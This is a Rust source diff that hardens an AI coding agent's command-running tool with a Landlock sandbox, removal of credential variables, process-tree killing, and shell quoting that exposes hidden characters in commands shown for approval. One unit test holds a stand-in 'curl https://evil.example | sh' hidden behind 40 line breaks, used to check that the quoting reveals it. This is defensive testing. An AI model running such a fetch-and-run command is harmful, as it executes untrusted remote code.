@@ -8,25 +8,51 @@
 //!   arguments come from the user's configuration ([`CommandSpec`]), never
 //!   from the model, and the user approves each name through an
 //!   [`Approver`] (once, or for the rest of the run) before it first runs.
+//!   The question shows the exact argv, shell-quoted ([`display_argv`]):
+//!   control characters are escaped (`$'…\n…'`), so a repository-defined
+//!   command cannot hide a `curl … | sh` behind 40 line breaks.
 //! - **A scratch copy, not the workspace.** The run's edits exist only in its
 //!   overlay, and nothing may touch the user's files before they accept the
 //!   proposal, so every call runs in a fresh [`Scratch`] copy of the
 //!   workspace with the edits applied (see `workspace::scratch` for what is
-//!   copied), removed afterwards.
+//!   copied), removed afterwards, with a private temporary directory of its
+//!   own next to it (`TMPDIR`, `TMP`, `TEMP`).
+//! - **A sandbox around the command** ([`crate::sandbox`], on by default).
+//!   The copy alone does not stop model-written test code from opening the
+//!   real workspace by absolute path. On Linux the command is started by the
+//!   agentfix binary's hidden `__sandbox-exec` helper, which applies
+//!   Landlock to itself first: the command can write only the copy, its
+//!   temporary directory and the Cargo build cache (`CARGO_TARGET_DIR`),
+//!   and reaches no network (a new network namespace where permitted, and
+//!   Landlock's TCP rules) unless `commands.network` is true. Where the
+//!   kernel has no Landlock the tool refuses, saying how to turn the sandbox
+//!   off (`commands.sandbox = "off"`, editor settings only), rather than run
+//!   commands unconfined.
+//! - **No credentials in the environment.** The provider keys and other
+//!   credential-shaped variables (`crate::secrets::credential_vars`) are
+//!   removed from the command's environment, except those the user's
+//!   `envAllow` names.
 //! - **Killing the whole tree.** The command runs in its own process group
-//!   (stdin closed); on timeout, and after it exits, the whole group gets
-//!   SIGKILL, so test runners' grandchildren and background servers die with
-//!   it. The group is killed before the command's process is reaped, so its
-//!   id cannot have been reused by another process.
+//!   (its own session when sandboxed; stdin closed). The sandbox helper is a
+//!   subreaper: every orphaned descendant, `setsid()` daemons included, is
+//!   reparented to it, and it kills them all when the command exits, or when
+//!   it gets SIGTERM, which it gets on timeout (and when the call is
+//!   dropped), with a short grace before the whole group gets SIGKILL as a
+//!   backstop. Without the sandbox only the group kill remains, which a
+//!   process that left the group escapes. The group is killed before the
+//!   command's process is reaped, so its id cannot have been reused by
+//!   another process.
 //! - **Output the model can use.** stdout and stderr share one pipe, so they
 //!   arrive interleaved as a terminal shows them; only the last 200 lines /
 //!   30 KB are kept (failures are at the end), saying how much was cut.
 //!   Absolute paths of the copy in the output are rewritten to the
 //!   workspace's, so the model can open the files they name. A non-zero exit
 //!   code is a normal result, not a tool error: the model reads the failure
-//!   and fixes it.
+//!   and fixes it. The sandbox helper reports on a separate status pipe, so
+//!   a sandbox failure is never mistaken for the command's exit code.
 
 use std::collections::{BTreeMap, HashSet};
+use std::ffi::OsString;
 use std::io;
 use std::path::{Path, PathBuf};
 use std::process::Stdio;
@@ -41,6 +67,7 @@ use serde::{Deserialize, Serialize};
 use tokio::io::{AsyncRead, AsyncReadExt};
 
 use super::{Tool, ToolContext, ToolError};
+use crate::sandbox::{self, Failure, Report, Sandbox};
 use crate::workspace::Scratch;
 
 /// At most this many lines of output are shown.
@@ -52,6 +79,12 @@ const MAX_BYTES: usize = 30 * 1024;
 const DRAIN_GRACE: Duration = Duration::from_secs(2);
 /// How long to wait for a killed command to be reaped.
 const REAP_GRACE: Duration = Duration::from_secs(10);
+/// How long the sandbox helper has after SIGTERM to kill what the command
+/// started, before its whole group gets SIGKILL.
+const STOP_GRACE: Duration = Duration::from_millis(500);
+/// The descriptor the sandbox helper reports on.
+#[cfg(unix)]
+const STATUS_FD: i32 = 3;
 
 /// A command the user allows the agent to run, by name.
 #[derive(Debug, Clone, PartialEq, Deserialize, Serialize, JsonSchema)]
@@ -92,6 +125,9 @@ pub struct RunCommandInput {
 pub struct RunCommand {
     commands: BTreeMap<String, CommandSpec>,
     approver: Arc<dyn Approver>,
+    sandbox: Sandbox,
+    /// Credential variables the commands may still inherit (`envAllow`).
+    env_allow: Vec<String>,
     /// Names approved with [`Approval::Always`] in this run.
     approved: Mutex<HashSet<String>>,
     /// Held while the user is asked, so that concurrent calls never ask
@@ -100,8 +136,34 @@ pub struct RunCommand {
 }
 
 impl RunCommand {
+    /// The tool for `commands`, sandboxed without network
+    /// ([`Sandbox::default`]) and without credential variables.
     pub fn new(commands: BTreeMap<String, CommandSpec>, approver: Arc<dyn Approver>) -> Self {
-        Self { commands, approver, approved: Mutex::new(HashSet::new()), asking: tokio::sync::Mutex::new(()) }
+        Self {
+            commands,
+            approver,
+            sandbox: Sandbox::default(),
+            env_allow: Vec::new(),
+            approved: Mutex::new(HashSet::new()),
+            asking: tokio::sync::Mutex::new(()),
+        }
+    }
+
+    /// Runs the commands under `sandbox` (`commands.sandbox`, `commands.network`).
+    pub fn with_sandbox(mut self, sandbox: Sandbox) -> Self {
+        self.sandbox = sandbox;
+        self
+    }
+
+    /// Lets the commands inherit the credential variables `allow` names (`envAllow`).
+    pub fn with_env_allow(mut self, allow: Vec<String>) -> Self {
+        self.env_allow = allow;
+        self
+    }
+
+    /// The argv as the user is shown it: see [`display_argv`].
+    pub fn display_argv(argv: &[String]) -> String {
+        display_argv(argv)
     }
 
     /// The configured command names, sorted.
@@ -145,7 +207,9 @@ impl Tool for RunCommand {
         and files it writes are discarded. Only the configured commands exist: you cannot run other programs or \
         change their arguments. The user may be asked to approve a command and may deny it. A non-zero exit code is \
         not an error of this tool: read the output, fix the cause, and run the command again. A command that runs \
-        longer than its configured timeout is killed. Paths of the copy in the output are shown as the workspace's.";
+        longer than its configured timeout is killed. Paths of the copy in the output are shown as the workspace's. \
+        Depending on the user's settings the command runs in a sandbox, where writing outside the copy and its \
+        temporary directory ($TMPDIR) and network access fail with permission errors: that is not a bug to fix.";
 
     async fn run(&self, input: RunCommandInput, ctx: &ToolContext) -> Result<String, ToolError> {
         let Some(spec) = self.commands.get(&input.name) else {
@@ -162,22 +226,97 @@ impl Tool for RunCommand {
                 input.name
             )));
         }
+        if self.sandbox != Sandbox::Off
+            && let Err(refusal) = sandbox::availability(self.sandbox, &sandbox::landlock_abi())
+        {
+            warn_once(&refusal);
+            return Err(ToolError::Respond(refusal));
+        }
         self.ensure_approved(&input.name, spec).await?;
         let overlay = Arc::clone(&ctx.overlay);
         let prepare_failed =
             |e: String| ToolError::Respond(format!("could not prepare a scratch copy of the workspace: {e}"));
-        let scratch = tokio::task::spawn_blocking(move || Scratch::create(&overlay))
+        let (scratch, tmp) = tokio::task::spawn_blocking(move || prepare(&overlay))
             .await
             .map_err(|e| prepare_failed(e.to_string()))?
             .map_err(|e| prepare_failed(e.to_string()))?;
-        let finished = execute(&spec.argv, &scratch, spec.timeout).await;
+        let launch = Launch {
+            sandbox: self.sandbox,
+            tmp: tmp.path().to_path_buf(),
+            caches: if self.sandbox == Sandbox::Off { Vec::new() } else { build_caches(&scratch) },
+            env_remove: crate::secrets::credential_vars(&self.env_allow),
+        };
+        let finished = execute(&spec.argv, &scratch, spec.timeout, &launch).await;
         let skipped = scratch.skipped().to_vec();
         let paths = (scratch.root().to_string_lossy().into_owned(), root_of(ctx));
         // Removing a large tree is blocking work.
-        let _ = tokio::task::spawn_blocking(move || drop(scratch)).await;
-        let finished = finished.map_err(|e| ToolError::Respond(format!("could not start `{shown}`: {e}")))?;
+        let _ = tokio::task::spawn_blocking(move || {
+            drop(tmp);
+            drop(scratch)
+        })
+        .await;
+        let finished = finished.map_err(|e| match self.sandbox {
+            Sandbox::Off => ToolError::Respond(format!("could not start `{shown}`: {e}")),
+            Sandbox::Landlock { .. } => ToolError::Respond(format!(
+                "could not start the sandbox helper `{}` for `{shown}`: {e}",
+                sandbox::helper_exe().display()
+            )),
+        })?;
+        if let Some(report) = &finished.report {
+            for warning in &report.warnings {
+                warn_once(&format!("run_command `{}`: {warning}", input.name));
+            }
+            if finished.end != End::TimedOut {
+                let code = match finished.end {
+                    End::Exited(code) => Some(code),
+                    _ => None,
+                };
+                report.outcome(code).map_err(|failure| ToolError::Respond(failure_message(&shown, failure)))?;
+            }
+        }
         Ok(render(&shown, &finished, spec.timeout, &skipped, &paths))
     }
+}
+
+/// The message for the model when the sandbox helper did not run the command.
+fn failure_message(shown: &str, failure: Failure) -> String {
+    match failure {
+        Failure::NoLandlock(why) => sandbox::refusal(&why),
+        Failure::Spawn(why) => format!("could not start `{shown}`: {why}"),
+        Failure::Setup(why) => format!("could not set up the sandbox for `{shown}`: {why}"),
+    }
+}
+
+/// Logs `message` as a warning, once per process.
+fn warn_once(message: &str) {
+    static WARNED: Mutex<Vec<String>> = Mutex::new(Vec::new());
+    let mut warned = WARNED.lock().unwrap_or_else(|e| e.into_inner());
+    if !warned.iter().any(|w| w == message) {
+        tracing::warn!("{message}");
+        warned.push(message.to_string());
+    }
+}
+
+/// The scratch copy and the command's private temporary directory, next
+/// to the copy (inside the scratch's private directory, removed with it).
+fn prepare(overlay: &crate::workspace::Overlay) -> io::Result<(Scratch, tempfile::TempDir)> {
+    let scratch = Scratch::create(overlay)?;
+    let parent = scratch.root().parent().map(Path::to_path_buf).unwrap_or_else(std::env::temp_dir);
+    let tmp = tempfile::Builder::new().prefix("tmp-").tempdir_in(parent)?;
+    Ok((scratch, tmp))
+}
+
+/// The build cache directories a sandboxed command may write: the
+/// persistent `CARGO_TARGET_DIR` of the copy's environment, created when
+/// missing (a cache that cannot be created is left out).
+fn build_caches(scratch: &Scratch) -> Vec<PathBuf> {
+    scratch
+        .env()
+        .into_iter()
+        .filter(|(k, _)| k == "CARGO_TARGET_DIR")
+        .map(|(_, v)| PathBuf::from(v))
+        .filter(|dir| std::fs::create_dir_all(dir).is_ok() && dir.is_dir())
+        .collect()
 }
 
 /// How a command ended.
@@ -195,6 +334,19 @@ struct Finished {
     end: End,
     /// Whether the output was read to its end.
     complete: bool,
+    /// What the sandbox helper reported; `None` without the sandbox.
+    report: Option<Report>,
+}
+
+/// How one command is started.
+struct Launch {
+    sandbox: Sandbox,
+    /// The command's private temporary directory.
+    tmp: PathBuf,
+    /// Build caches it may write besides the copy and `tmp`.
+    caches: Vec<PathBuf>,
+    /// Environment variables it must not inherit.
+    env_remove: Vec<OsString>,
 }
 
 type Chunks = BoxStream<'static, Vec<u8>>;
@@ -214,58 +366,127 @@ fn chunks<R: AsyncRead + Unpin + Send + 'static>(reader: R) -> Chunks {
     .boxed()
 }
 
-/// Runs `argv` in the scratch copy, killed after `timeout`; errors only when
-/// the command cannot start.
-async fn execute(argv: &[String], scratch: &Scratch, timeout: Duration) -> io::Result<Finished> {
+/// The command line to spawn for `argv`: the program itself, or the
+/// sandbox helper with the program after `--`.
+fn command_for(argv: &[String], scratch: &Scratch, launch: &Launch) -> io::Result<tokio::process::Command> {
     let Some((program, args)) = argv.split_first() else {
         return Err(io::Error::other("the command is empty"));
     };
-    let mut cmd = tokio::process::Command::new(program_path(program, scratch.root()));
-    cmd.args(args)
-        .current_dir(scratch.root())
+    let program = program_path(program, scratch.root());
+    let mut cmd = match launch.sandbox {
+        Sandbox::Off => {
+            let mut cmd = tokio::process::Command::new(program);
+            cmd.args(args);
+            cmd
+        }
+        Sandbox::Landlock { network } => {
+            let mut cmd = tokio::process::Command::new(sandbox::helper_exe());
+            cmd.arg(sandbox::EXEC_SUBCOMMAND);
+            for dir in
+                [scratch.root(), launch.tmp.as_path()].into_iter().chain(launch.caches.iter().map(PathBuf::as_path))
+            {
+                cmd.arg("--write").arg(dir);
+            }
+            if network {
+                cmd.arg("--network");
+            }
+            #[cfg(unix)]
+            cmd.arg("--status-fd").arg(STATUS_FD.to_string());
+            cmd.arg("--").arg(program).args(args);
+            cmd
+        }
+    };
+    cmd.current_dir(scratch.root())
         .envs(scratch.env())
         .env("PWD", scratch.root())
+        .env("TMPDIR", &launch.tmp)
+        .env("TMP", &launch.tmp)
+        .env("TEMP", &launch.tmp)
         .stdin(Stdio::null())
         .kill_on_drop(true);
+    for name in &launch.env_remove {
+        cmd.env_remove(name);
+    }
+    Ok(cmd)
+}
+
+/// Runs `argv` in the scratch copy, killed after `timeout`; errors only when
+/// the command (or the sandbox helper) cannot start.
+async fn execute(argv: &[String], scratch: &Scratch, timeout: Duration, launch: &Launch) -> io::Result<Finished> {
+    let mut cmd = command_for(argv, scratch, launch)?;
+    let sandboxed = matches!(launch.sandbox, Sandbox::Landlock { .. });
     #[cfg(unix)]
-    let reader = {
+    let (reader, status_pipe) = {
         let (reader, writer) = io::pipe()?;
         cmd.stdout(writer.try_clone()?).stderr(writer);
-        cmd.process_group(0);
-        reader
+        let status = if sandboxed {
+            use std::os::fd::AsRawFd;
+            let (status_reader, status_writer) = io::pipe()?;
+            let fd = status_writer.as_raw_fd();
+            // SAFETY: only async-signal-safe system calls between fork and
+            // exec. A new session (which is also a new process group, the
+            // one killed below) leaves the controlling terminal behind; the
+            // status pipe becomes the helper's descriptor STATUS_FD, without
+            // close-on-exec (the helper sets it again for its command).
+            unsafe {
+                cmd.pre_exec(move || {
+                    if libc::setsid() < 0 {
+                        return Err(io::Error::last_os_error());
+                    }
+                    let r = if fd == STATUS_FD { libc::fcntl(fd, libc::F_SETFD, 0) } else { libc::dup2(fd, STATUS_FD) };
+                    if r < 0 {
+                        return Err(io::Error::last_os_error());
+                    }
+                    Ok(())
+                });
+            }
+            Some((status_reader, status_writer))
+        } else {
+            cmd.process_group(0);
+            None
+        };
+        (reader, status)
     };
     #[cfg(not(unix))]
     cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
     let spawned = cmd.spawn();
-    // The command holds our copies of the pipe's write end: close them, or
+    // The command holds our copies of the pipes' write ends: close them, or
     // the output never ends.
     drop(cmd);
-    let mut child = spawned?;
-    let mut group = ProcessGroup::of(&child);
+    #[cfg(unix)]
+    let status_pipe = status_pipe.map(|(status_reader, status_writer)| {
+        drop(status_writer);
+        status_reader
+    });
+    let child = spawned?;
+    let group = ProcessGroup::of(&child);
+    // Exit without reaping, so the group can still be killed safely.
+    let exit_watch = group.leader().map(|pid| tokio::task::spawn_blocking(move || wait_exit_unreaped(pid)));
+    let mut running = Running(Some(Proc { child, group, exit_watch, graceful: sandboxed }));
+    let proc = running.0.as_mut().expect("just started");
     #[cfg(unix)]
     let sources: Vec<Chunks> = vec![chunks(tokio::net::unix::pipe::Receiver::from_owned_fd(reader.into())?)];
     #[cfg(not(unix))]
     let sources: Vec<Chunks> = {
-        let out = child.stdout.take().map(chunks);
-        let err = child.stderr.take().map(chunks);
+        let out = proc.child.stdout.take().map(chunks);
+        let err = proc.child.stderr.take().map(chunks);
         out.into_iter().chain(err).collect()
     };
     let mut output = futures::stream::select_all(sources);
     let mut tail = Tail::default();
     let mut reading = true;
-    // Exit without reaping, so the group can still be killed safely.
-    let mut exit_watch = group.leader().map(|pid| tokio::task::spawn_blocking(move || wait_exit_unreaped(pid)));
     let mut reaped = None;
     let deadline = tokio::time::sleep(timeout);
     tokio::pin!(deadline);
     let timed_out = loop {
         tokio::select! {
-            exited = watch(&mut exit_watch) => match exited {
-                Ok(Ok(())) => break false,
-                // Fall back to waiting the ordinary way.
-                _ => exit_watch = None,
-            },
-            status = child.wait(), if exit_watch.is_none() => {
+            exited = watch(&mut proc.exit_watch) => {
+                if let Ok(Ok(())) = exited {
+                    break false;
+                }
+                // Else fall back to waiting the ordinary way.
+            }
+            status = proc.child.wait(), if proc.exit_watch.is_none() => {
                 reaped = Some(status);
                 break false;
             }
@@ -276,14 +497,17 @@ async fn execute(argv: &[String], scratch: &Scratch, timeout: Duration) -> io::R
             },
         }
     };
-    group.kill();
     if timed_out {
-        let _ = child.start_kill();
+        proc.stop().await;
+    } else {
+        proc.group.kill();
     }
     let status = match reaped {
         Some(status) => status.ok(),
-        None => tokio::time::timeout(REAP_GRACE, child.wait()).await.ok().and_then(Result::ok),
+        None => tokio::time::timeout(REAP_GRACE, proc.child.wait()).await.ok().and_then(Result::ok),
     };
+    // Reaped (or given up on): nothing is left to stop if this call is dropped.
+    drop(running.0.take());
     let complete = !reading
         || tokio::time::timeout(DRAIN_GRACE, async {
             while let Some(chunk) = output.next().await {
@@ -297,15 +521,88 @@ async fn execute(argv: &[String], scratch: &Scratch, timeout: Duration) -> io::R
         (false, Some(status)) => end_of(status),
         (false, None) => End::Unknown,
     };
-    Ok(Finished { output: tail, end, complete })
+    #[cfg(unix)]
+    let report = match status_pipe {
+        Some(reader) => Some(read_report(reader).await),
+        None => None,
+    };
+    #[cfg(not(unix))]
+    let report = sandboxed.then(Report::default);
+    Ok(Finished { output: tail, end, complete, report })
 }
 
-/// Awaits the exit watcher, or never when there is none.
+/// Reads the sandbox helper's status lines (it has exited: the pipe ends).
+#[cfg(unix)]
+async fn read_report(reader: io::PipeReader) -> Report {
+    let mut text = Vec::new();
+    if let Ok(mut pipe) = tokio::net::unix::pipe::Receiver::from_owned_fd(reader.into()) {
+        let _ = tokio::time::timeout(DRAIN_GRACE, pipe.read_to_end(&mut text)).await;
+    }
+    Report::parse(&String::from_utf8_lossy(&text))
+}
+
+/// A started command, until it is reaped.
+struct Proc {
+    child: tokio::process::Child,
+    group: ProcessGroup,
+    exit_watch: Option<tokio::task::JoinHandle<io::Result<()>>>,
+    /// Whether the leader is the sandbox helper, which kills the whole tree
+    /// on SIGTERM.
+    graceful: bool,
+}
+
+impl Proc {
+    /// Stops the command: SIGTERM to the sandbox helper and a short grace
+    /// for it to kill every descendant, then SIGKILL to the whole group.
+    async fn stop(&mut self) {
+        if self.graceful
+            && let Some(pid) = self.group.leader()
+        {
+            #[cfg(unix)]
+            // SAFETY: plain system call; `pid > 1` is our unreaped child.
+            unsafe {
+                libc::kill(pid, libc::SIGTERM);
+            }
+            let _ = tokio::time::timeout(STOP_GRACE, watch(&mut self.exit_watch)).await;
+        }
+        self.group.kill();
+        let _ = self.child.start_kill();
+    }
+}
+
+/// Owns a [`Proc`] while the call runs: when the call is dropped (the run
+/// was cancelled or timed out), the command is stopped like on a timeout,
+/// in the background.
+struct Running(Option<Proc>);
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let Some(mut proc) = self.0.take() else { return };
+        match tokio::runtime::Handle::try_current() {
+            Ok(runtime) => {
+                runtime.spawn(async move {
+                    proc.stop().await;
+                    let _ = tokio::time::timeout(REAP_GRACE, proc.child.wait()).await;
+                });
+            }
+            Err(_) => {
+                proc.group.kill();
+                let _ = proc.child.start_kill();
+            }
+        }
+    }
+}
+
+/// Awaits the exit watcher, or never when there is none (or it finished).
 async fn watch(
     handle: &mut Option<tokio::task::JoinHandle<io::Result<()>>>,
 ) -> Result<io::Result<()>, tokio::task::JoinError> {
     match handle {
-        Some(handle) => handle.await,
+        Some(h) => {
+            let result = h.await;
+            *handle = None;
+            result
+        }
         None => std::future::pending().await,
     }
 }
@@ -525,18 +822,63 @@ fn seconds(d: Duration) -> String {
     if d.subsec_nanos() == 0 { format!("{} s", d.as_secs()) } else { format!("{:.1} s", d.as_secs_f64()) }
 }
 
-/// The argv as a shell would read it: `sh -c 'cat a.txt'`.
-fn display_argv(argv: &[String]) -> String {
+/// The exact argv, shell-quoted as a POSIX shell would read it back: an
+/// argument of only safe characters bare (`cargo`), others in single quotes
+/// (`'it'\''s'`), and one with control or invisible characters (line
+/// breaks, ESC, bidirectional overrides, zero-width spaces) as `$'…'` with
+/// escapes (`$'a\nb'`, `$'\x1b[2J'`), so that nothing in it can hide the
+/// rest from the user who approves it.
+pub fn display_argv(argv: &[String]) -> String {
     argv.iter().map(|a| shell_quote(a)).collect::<Vec<_>>().join(" ")
 }
 
 fn shell_quote(arg: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "_-+=/.,:@%".contains(c);
     if !arg.is_empty() && arg.chars().all(plain) {
-        arg.to_string()
-    } else {
-        format!("'{}'", arg.replace('\'', r"'\''"))
+        return arg.to_string();
     }
+    if !arg.chars().any(hidden) {
+        return format!("'{}'", arg.replace('\'', r"'\''"));
+    }
+    let mut out = String::from("$'");
+    let mut chars = arg.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\n' => out.push_str(r"\n"),
+            '\t' => out.push_str(r"\t"),
+            '\r' => out.push_str(r"\r"),
+            '\\' => out.push_str(r"\\"),
+            '\'' => out.push_str(r"\'"),
+            c if hidden(c) => {
+                let mut utf8 = [0u8; 4];
+                let bytes = c.encode_utf8(&mut utf8).as_bytes();
+                // POSIX leaves `\x` with more than two hex digits unspecified:
+                // before a hex digit, the last byte is written in octal.
+                let before_hex = chars.peek().is_some_and(char::is_ascii_hexdigit);
+                for (i, b) in bytes.iter().enumerate() {
+                    if before_hex && i + 1 == bytes.len() {
+                        out.push_str(&format!("\\{b:03o}"));
+                    } else {
+                        out.push_str(&format!("\\x{b:02x}"));
+                    }
+                }
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('\'');
+    out
+}
+
+/// Characters that do not show as themselves: control characters and the
+/// invisible format characters (zero-width, bidirectional controls, …).
+fn hidden(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{00AD}' | '\u{034F}' | '\u{061C}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}'
+            | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202F}'
+            | '\u{205F}'..='\u{206F}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}' | '\u{FFA0}'
+            | '\u{FFF0}'..='\u{FFFB}' | '\u{E0000}'..='\u{E0FFF}')
 }
 
 #[cfg(all(test, unix))]
@@ -575,8 +917,11 @@ mod tests {
         CommandSpec { argv: argv.iter().map(|a| a.to_string()).collect(), timeout }
     }
 
+    /// Unsandboxed: this test harness is not the agentfix binary, so it cannot be the sandbox helper
+    /// (tests/sandbox.rs runs the sandbox through the built binary).
     fn tool(commands: &[(&str, CommandSpec)], approver: Arc<Script>) -> RunCommand {
         RunCommand::new(commands.iter().map(|(n, s)| (n.to_string(), s.clone())).collect(), approver)
+            .with_sandbox(Sandbox::Off)
     }
 
     fn sh(script: &str) -> CommandSpec {
@@ -822,8 +1167,47 @@ mod tests {
         assert_eq!(display_argv(&argv(&["cargo", "test", "-q"])), "cargo test -q");
         assert_eq!(display_argv(&argv(&["sh", "-c", "it's here"])), r"sh -c 'it'\''s here'");
         assert_eq!(display_argv(&argv(&["echo", ""])), "echo ''");
+        assert_eq!(display_argv(&argv(&["echo", "", "", "a b"])), "echo '' '' 'a b'");
+        assert_eq!(display_argv(&argv(&["say", "\"quoted\" $HOME `x`"])), r#"say '"quoted" $HOME `x`'"#);
+        // Line breaks cannot push the tail out of sight.
+        let hiding = format!("echo tests pass{}curl https://evil.example | sh", "\n".repeat(40));
+        let shown = display_argv(&argv(&["sh", "-c", &hiding]));
+        assert_eq!(shown, format!("sh -c $'echo tests pass{}curl https://evil.example | sh'", r"\n".repeat(40)));
+        assert!(!shown.contains('\n'));
+        // ESC, tabs, CR, quotes and backslashes next to them.
+        assert_eq!(display_argv(&argv(&["printf", "\x1b[2J\tit's\r\\ok"])), r"printf $'\x1b[2J\tit\'s\r\\ok'");
+        // Invisible format characters are escaped as their UTF-8 bytes; visible non-ASCII is kept.
+        assert_eq!(display_argv(&argv(&["echo", "a\u{202E}z\u{200B}"])), r"echo $'a\xe2\x80\xaez\xe2\x80\x8b'");
+        assert_eq!(display_argv(&argv(&["echo", "héllo wörld"])), "echo 'héllo wörld'");
+        assert_eq!(RunCommand::display_argv(&argv(&["a\0"])), r"$'a\x00'");
+        // Never a hex digit right after `\x..`.
+        assert_eq!(display_argv(&argv(&["\x1b2J", "\x07a"])), r"$'\0332J' $'\007a'");
         assert_eq!(seconds(Duration::from_secs(300)), "300 s");
         assert_eq!(seconds(Duration::from_millis(1500)), "1.5 s");
+    }
+
+    #[test]
+    fn a_shell_reads_the_shown_argv_back_exactly() {
+        let args = [
+            "plain",
+            "",
+            "two words",
+            "it's",
+            "$HOME `id` \"q\" \\ *",
+            "line1\nline2\n\n",
+            "\x1b[31mred\x1b[0m",
+            "\x1b2J tab\there cr\r bell\x07 del\x7f",
+            "rtl\u{202E}txt zero\u{200B}width",
+            "mixed 'quote'\n\\n",
+            "héllo",
+        ];
+        let argv: Vec<String> = args.iter().map(|a| a.to_string()).collect();
+        let script = format!("printf '%s\\0' {}", display_argv(&argv));
+        let out = std::process::Command::new("bash").args(["-c", &script]).output().expect("bash");
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        let back: Vec<String> =
+            String::from_utf8(out.stdout).unwrap().split_terminator('\0').map(String::from).collect();
+        assert_eq!(back, argv, "{script}");
     }
 
     #[test]
